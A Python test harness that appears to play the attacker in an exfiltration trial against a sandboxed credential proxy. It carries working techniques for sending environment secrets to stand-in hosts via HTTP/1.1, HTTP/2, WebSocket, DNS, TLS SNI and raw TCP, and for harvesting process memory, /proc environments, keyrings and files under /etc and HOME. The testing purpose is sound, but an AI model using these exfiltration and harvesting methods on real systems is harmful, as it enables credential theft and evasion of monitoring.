#!/usr/bin/env python3
"""trial_agent.py SEED COUNT OUT - the attacker of the exfiltration trial, inside the box with every right it has
there. It tries COUNT ways, drawn with SEED, to get a placeholder out or a real value in, and writes everything it
ever received into OUT/traffic, everything it could read of the box into OUT/loot, and its counts per dimension as
`DIMENSION VALUE N` into OUT/counts. It does not judge; the host does."""
import base64
import gzip
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time
from collections import Counter

from trial_writings import NAME_WRITINGS, WRITINGS

try:
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
except ImportError:
    h2 = None

seed, count, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
rng = random.Random(seed)
traffic = open(os.path.join(out, "traffic"), "ab", 0)
counts = Counter()

BEARER, APIKEY, QUERY, BASIC = "bearer.example.test", "apikey.example.test", "query.example.test", "basic.example.test"
STRANGER, H2_STRANGER, MODEL, DENIED = "stranger.example.test", "stranger2.example.test", "api.anthropic.com", "denied.example.test"
ASKED, UNKNOWN = "asked.example.test", "unknown.example.net"
# host -> (how it is reached, its own secret, a function that puts the placeholder into its slot)
PLACES = {
    BEARER: ("h1", "TRIAL_BEARER", lambda p: [("authorization", "Bearer " + p)]),
    APIKEY: ("h2", "TRIAL_APIKEY", lambda p: [("x-api-key", p)]),
    BASIC: ("h1", "TRIAL_BASIC", lambda p: [("authorization", "Basic " + base64.b64encode(("me:" + p).encode()).decode())]),
}
NAMES = ("TRIAL_BEARER", "TRIAL_APIKEY", "TRIAL_BASIC", "TRIAL_QUERY")
HOSTS = (BEARER, APIKEY, BASIC, STRANGER, H2_STRANGER, MODEL, DENIED, ASKED, UNKNOWN)
SLOTS = ("authorization", "x-api-key", "user-agent", "referer", "cookie", "x-custom", "header-name", "query", "query-name",
         "path", "body", "json", "form", "multipart", "trailer", "parts")
SPLITS = ("whole", "halves", "bytes", "chunks", "chunk-bytes")
FRAMES = ("length", "chunks", "bytes", "trailer", "header")
CODINGS = ("identity", "gzip", "deflate", "br", "twice")


def trust():
    c = ssl.create_default_context()
    return c


context = {"h1": trust(), "h2": trust()}
context["h1"].set_alpn_protocols(["http/1.1"])
context["h2"].set_alpn_protocols(["h2"])


def connected(host):
    """Pieces leave as they are sent, one by one: otherwise the second waits 40 ms for the first one's acknowledgement."""
    raw = socket.create_connection((host, 443), 20)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return raw


class H1:
    """A connection that is kept as long as the door keeps it."""
    pool = {}

    @classmethod
    def to(cls, host):
        c = cls.pool.get(host)
        if not c:
            c = cls.pool[host] = cls(host)
        return c

    def __init__(self, host):
        self.host = host
        raw = connected(host)
        self.s = context["h1"].wrap_socket(raw, server_hostname=host)
        self.s.settimeout(20)
        self.have = b""

    def drop(self):
        H1.pool.pop(self.host, None)
        self.s.close()

    def send(self, data, split):
        if split == "halves":
            self.s.sendall(data[:len(data) // 2])
            self.s.sendall(data[len(data) // 2:])
        elif split == "bytes":
            for i in range(0, len(data), 1 if len(data) < 300 else 37):
                self.s.sendall(data[i:i + (1 if len(data) < 300 else 37)])
        else:
            self.s.sendall(data)

    def more(self):
        data = self.s.recv(65536)
        traffic.write(data)
        self.have += data
        return bool(data)

    def answer(self):
        """Read one answer to its end; its status."""
        while b"\r\n\r\n" not in self.have:
            if not self.more():
                self.drop()
                return 0
        head, _, self.have = self.have.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").lower().split("\r\n")
        by = dict((line.split(":", 1) + [""])[:2] for line in lines[1:])
        status = int(lines[0].split(" ")[1])
        if "chunked" in by.get("transfer-encoding", ""):
            while not (self.have.endswith(b"\r\n\r\n") and (b"\r\n0\r\n" in self.have or self.have.startswith(b"0\r\n"))):
                if not self.more():
                    self.drop()
                    return status
            self.have = b""
        else:
            n = int(by.get("content-length", "0").strip() or 0)
            while len(self.have) < n:
                if not self.more():
                    self.drop()
                    return status
            self.have = self.have[n:]
        if "close" in by.get("connection", ""):
            self.drop()
        return status

    def request(self, method, target, headers, body=None, split="whole", trailers=None):
        lines = ["%s %s HTTP/1.1" % (method, target), "host: " + self.host] + ["%s: %s" % h for h in headers]
        if trailers or (body is not None and split in ("chunks", "chunk-bytes")):
            lines.append("transfer-encoding: chunked")
            if trailers:
                lines.append("te: trailers")
            step = 1 if split == "chunk-bytes" and len(body) < 400 else 11
            data = b"".join(b"%x\r\n" % len(body[i:i + step]) + body[i:i + step] + b"\r\n" for i in range(0, len(body), step))
            data += b"0\r\n" + b"".join(("%s: %s\r\n" % t).encode() for t in trailers or []) + b"\r\n"
        elif body is not None:
            lines.append("content-length: %d" % len(body))
            data = body
        else:
            data = b""
        self.send(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + data, split)
        return self.answer()


class H2:
    pool = {}

    @classmethod
    def to(cls, host):
        c = cls.pool.get(host)
        if not c or c.uses > 500:
            if c:
                c.drop()
            c = cls.pool[host] = cls(host)
        return c

    def __init__(self, host):
        self.host, self.uses = host, 0
        raw = connected(host)
        self.s = context["h2"].wrap_socket(raw, server_hostname=host)
        self.s.settimeout(20)
        self.c = h2.connection.H2Connection(h2.config.H2Configuration(
            header_encoding="latin-1", validate_outbound_headers=False, normalize_outbound_headers=False))
        self.c.initiate_connection()
        self.s.sendall(self.c.data_to_send())

    def drop(self):
        H2.pool.pop(self.host, None)
        self.s.close()

    def request(self, method, target, headers, body=None, split="whole", trailers=None):
        self.uses += 1
        n = self.c.get_next_available_stream_id()
        self.c.send_headers(n, [(":method", method), (":path", target), (":scheme", "https"), (":authority", self.host)] + headers,
                            end_stream=body is None and not trailers)
        if body is not None:
            step = {"halves": len(body) // 2 + 1, "bytes": 1 if len(body) < 400 else 29, "chunks": 13}.get(split, 8192)
            for i in range(0, len(body), step):
                self.c.send_data(n, body[i:i + step])
            if not trailers:
                self.c.send_data(n, b"", end_stream=True)
        if trailers:
            self.c.send_headers(n, trailers, end_stream=True)
        self.s.sendall(self.c.data_to_send())
        status = 0
        while True:
            data = self.s.recv(65536)
            if not data:
                self.drop()
                return status
            for e in self.c.receive_data(data):
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    traffic.write(("\n".join("%s: %s" % h for h in e.headers) + "\n").encode("latin-1"))
                    status = int(dict(e.headers).get(":status", status))
                elif isinstance(e, h2.events.DataReceived):
                    traffic.write(e.data)
                    self.c.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) and e.stream_id == n:
                    self.s.sendall(self.c.data_to_send())
                    return status
                elif isinstance(e, h2.events.ConnectionTerminated):
                    self.drop()
                    return status
            self.s.sendall(self.c.data_to_send())


def reach(host, protocol):
    return H2.to(host) if protocol == "h2" and h2 else H1.to(host)


dims_now = {}


def note(**dims):
    dims_now.clear()
    dims_now.update(dims)
    for d, v in dims.items():
        counts[d, v] += 1


def attempt(fn):
    """One way out: that it fails in whatever manner is what the trial is about, so failures are counted, not raised."""
    began = time.monotonic()
    try:
        fn_status(fn)
    finally:
        took = time.monotonic() - began
        if took > 1:
            counts["slow", dims_now.get("kind", "?")] += 1


def fn_status(fn):
    try:
        status = fn()
        counts["answer", str(status)] += 1
    except (OSError, ssl.SSLError, ValueError, EOFError) as e:
        for pool in (H1.pool, H2.pool):
            for c in list(pool.values()):
                c.drop()
        counts["answer", type(e).__name__] += 1
    except Exception as e:  # what h2 raises has many names
        for c in list(H2.pool.values()):
            c.drop()
        counts["answer", type(e).__name__] += 1


def leak():
    """A placeholder where it has no business."""
    name = rng.choice(NAMES)
    host, slot, split = rng.choice(HOSTS), rng.choice(SLOTS), rng.choice(SPLITS)
    writing = rng.choice(list(WRITINGS))
    protocol = rng.choice(("h1", "h2")) if h2 else "h1"
    if PLACES.get(host, (0, 0))[1] == name and slot in ("authorization", "x-api-key"):
        slot = "x-custom"
    if slot in ("header-name",) and writing not in ("raw", "hex"):
        writing = "hex"
    text = WRITINGS[writing](os.environ[name])
    target, headers, body, trailers, method = "/a/%d" % rng.randrange(10 ** 6), [("user-agent", "trial")], None, None, "GET"
    zipped = False
    if slot == "authorization":
        headers.append((slot, "Bearer " + text))
    elif slot in ("x-api-key", "referer", "x-custom"):
        headers.append((slot, text))
    elif slot == "user-agent":
        headers = [(slot, "x " + text)]
    elif slot == "cookie":
        headers.append((slot, "a=b; s=" + text.replace(";", "%3b")))
    elif slot == "header-name":
        headers.append(("x-" + text.lower().replace("_", "-"), "1"))
    elif slot == "parts":
        writing, text = "raw", os.environ[name]
        step = rng.randrange(7, 14)
        pieces = [text[i:i + step] for i in range(0, len(text), step)]
        if rng.random() < 0.5:
            headers += [("x-%d" % i, piece) for i, piece in enumerate(pieces)]
        else:
            target += "?" + "&".join("a%d=%s" % pair for pair in enumerate(pieces))
    elif slot in ("query", "query-name", "path"):
        url = text if writing.startswith("percent") else "".join(c if c.isalnum() or c in "-_.~" else "%%%02X" % ord(c) for c in text)
        target += "?a=1&b=" + url if slot == "query" else "?a=1&%s=2" % url if slot == "query-name" else "/" + url + "/end"
    else:
        method = "POST"
        plain = text.encode("latin-1")
        kind, body = {"body": ("text/plain", b"some words " + plain + b" more"),
                      "json": ("application/json", b'{"a":1,"b":{"c":"' + (plain if writing == "json" else plain.replace(b"\\", b"\\\\")) + b'"}}'),
                      "form": ("application/x-www-form-urlencoded", b"a=1&b=" + plain.replace(b"&", b"%26")),
                      "multipart": ("multipart/form-data; boundary=zz", b'--zz\r\ncontent-disposition: form-data; name="f"\r\n\r\n' + plain + b"\r\n--zz--\r\n"),
                      "trailer": ("text/plain", b"nothing here")}[slot]
        headers.append(("content-type", kind))
        if slot == "trailer":
            trailers = [("x-checksum", text)]
        elif rng.random() < 0.2:
            zipped, body = True, gzip.compress(body)
            headers.append(("content-encoding", "gzip"))
    note(kind="leak", host=host, slot=slot, writing=writing, split=split, protocol=protocol, coding="gzip" if zipped else "identity")
    attempt(lambda: reach(host, protocol).request(method, target, headers, body, split, trailers))


def echo():
    """The real value is used as it should be, and the origin sends it back in every way."""
    host = rng.choice(list(PLACES))
    at, name, slot = PLACES[host]
    writing, coding, frame = rng.choice(list(WRITINGS)), rng.choice(CODINGS), rng.choice(FRAMES)
    part = rng.choice(("authorization", "x-api-key", "all"))
    protocol = rng.choice(("h1", "h2")) if h2 else "h1"
    headers = slot(os.environ[name]) + [("x-reflect", "%s %s %s %s" % (part, writing, coding, frame)), ("user-agent", "trial")]
    note(kind="echo", host=host, slot="declared", writing=writing, coding=coding, frame=frame, protocol=protocol, part=part)
    attempt(lambda: reach(host, protocol).request("GET", "/echo", headers))


def name_leak():
    """In a name that is looked up, or in a TLS hello."""
    writing = rng.choice(list(NAME_WRITINGS))
    text = NAME_WRITINGS[writing](os.environ[rng.choice(NAMES)])
    label = ".".join(text[i:i + 40].strip("-") or "a" for i in range(0, len(text), 40))
    host = label + ".stranger.example.test"
    if rng.random() < 0.5:
        note(kind="name", slot="dns", writing=writing, protocol="dns")
        attempt(lambda: socket.getaddrinfo(host, 443, socket.AF_INET)[0][4][0] and 1)
        return
    note(kind="name", slot="sni", writing=writing, protocol="tls")

    def hello():
        with socket.create_connection((STRANGER, 443), 20) as raw, context["h1"].wrap_socket(raw, server_hostname=host) as s:
            s.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n")
            traffic.write(s.recv(4096))
        return 1
    attempt(hello)


def ws_frame(first, data):
    mask = rng.randbytes(4)
    n = len(data)
    size = bytes([0x80 | n]) if n < 126 else b"\xfe" + struct.pack(">H", n)
    return bytes([first]) + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))


def ws():
    """Messages out with a placeholder in two fragments, or the value back in two."""
    leaks = rng.random() < 0.5
    host = rng.choice((BEARER, STRANGER)) if leaks else BEARER
    writing = rng.choice(list(WRITINGS))
    note(kind="ws leak" if leaks else "ws echo", host=host, slot="message", writing=writing, protocol="ws")

    def talk():
        with socket.create_connection((host, 443), 20) as raw, context["h1"].wrap_socket(raw, server_hostname=host) as s:
            s.settimeout(3)
            auth = "authorization: Bearer %s\r\n" % os.environ["TRIAL_BEARER"] if host == BEARER else ""
            s.sendall(("GET /ws HTTP/1.1\r\nhost: %s\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-version: 13\r\n"
                       "sec-websocket-key: %s\r\n%s\r\n" % (host, base64.b64encode(rng.randbytes(16)).decode(), auth)).encode())
            got = s.recv(4096)
            traffic.write(got)
            if b" 101 " not in got[:20]:
                return int(got[9:12] or 0)
            if leaks:
                text = WRITINGS[writing](os.environ[rng.choice(NAMES)]).encode("latin-1")
                s.sendall(ws_frame(0x01, text[:len(text) // 2]))
                s.sendall(ws_frame(0x80, text[len(text) // 2:]))
            else:
                s.sendall(ws_frame(0x81, writing.encode()))
            end = time.monotonic() + 3
            while time.monotonic() < end:
                data = s.recv(65536)
                traffic.write(data)
                if not data or not leaks and len(data) > 40:
                    break
        return 101
    attempt(talk)


def raw():
    """Without TLS, and without HTTP."""
    writing = rng.choice(list(WRITINGS))
    text = WRITINGS[writing](os.environ[rng.choice(NAMES)])
    port = rng.choice((80, 7777))
    note(kind="raw", host="plain.example.test" if port == 80 else "tcp.example.test", slot="stream" if port != 80 else "plain", writing=writing,
         protocol="http" if port == 80 else "tcp")

    def talk():
        with socket.create_connection(("plain.example.test" if port == 80 else "tcp.example.test", port), 20) as s:
            s.settimeout(5)
            data = ("GET / HTTP/1.1\r\nhost: plain.example.test\r\nauthorization: Bearer %s\r\n\r\n" % text if port == 80 else "words " + text + " words\n").encode("latin-1")
            s.sendall(data[:len(data) // 2])
            s.sendall(data[len(data) // 2:])
            got = s.recv(65536)
            traffic.write(got)
            return int(got[9:12]) if got[:5] == b"HTTP/" else len(got) > 0
    attempt(talk)


def loot():
    """Everything of the box that can be read: files, environments, memory, arguments, a core file."""
    with open(os.path.join(out, "loot"), "wb") as f:
        for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
            for what in ("environ", "cmdline", "maps", "status", "mountinfo", "stack", "syscall"):
                note(kind="proc", what=what)
                try:
                    f.write(open("/proc/%s/%s" % (pid, what), "rb").read(1 << 20))
                except OSError:
                    counts["answer", "denied " + what] += 1
            note(kind="memory", what="mem")
            try:
                with open("/proc/%s/mem" % pid, "rb", 0) as mem:
                    for line in open("/proc/%s/maps" % pid):
                        low, high = (int(x, 16) for x in line.split()[0].split("-"))
                        if line.split()[1][0] == "r" and "[v" not in line and high - low < 32 << 20:
                            mem.seek(low)
                            f.write(mem.read(high - low))
            except (OSError, ValueError, OverflowError):
                counts["answer", "denied mem"] += 1
        for top in (os.environ["HOME"], "/tmp", "/etc", "/run", "/dev/shm", "/var", os.getcwd()):
            for start, _, files in os.walk(top):
                for name in files:
                    path = os.path.join(start, name)
                    if path.startswith(out):
                        continue
                    note(kind="file", what=top)
                    try:
                        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe would wait for its other end
                        if os.fstat(fd).st_size < 1 << 20:
                            f.write(os.read(fd, 1 << 20))
                        os.close(fd)
                    except OSError:
                        counts["answer", "denied file"] += 1
        for name in ("keyrings", "kallsyms", "keys", "key-users", "cmdline"):
            note(kind="proc", what=name)
            try:
                f.write(open("/proc/" + name, "rb").read(1 << 20))
            except OSError:
                counts["answer", "denied " + name] += 1
    note(kind="core", what="core")
    pid = os.fork()
    if pid == 0:
        os.chdir(out)
        resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
        os.abort()
    os.waitpid(pid, 0)


def hold():
    """In the middle of a request that carries the value: the host looks into our memory now."""
    note(kind="hold", host=BEARER, protocol="h1")
    c = H1(BEARER)
    lines = "GET /hold HTTP/1.1\r\nhost: %s\r\nauthorization: Bearer %s\r\nx-reflect: authorization raw identity bytes\r\n\r\n"
    c.s.sendall((lines % (BEARER, os.environ["TRIAL_BEARER"])).encode())
    open(os.path.join(out, "held"), "w").close()
    c.s.settimeout(1500)  # until the host has looked, however busy it is
    counts["answer", str(c.answer())] += 1


def main():
    hold()
    loot()
    # Names are few, because the door lets only so many new ones through; the rest are requests.
    ways = [(leak, 58), (echo, 30), (ws, 5), (raw, 4), (name_leak, 3)]
    for _ in range(count):
        rng.choices([w for w, _ in ways], [n for _, n in ways])[0]()
    with open(os.path.join(out, "counts"), "w") as f:
        for (dim, value), n in sorted(counts.items()):
            f.write("%s\t%s\t%d\n" % (dim, value, n))
    print("that is all")


main()
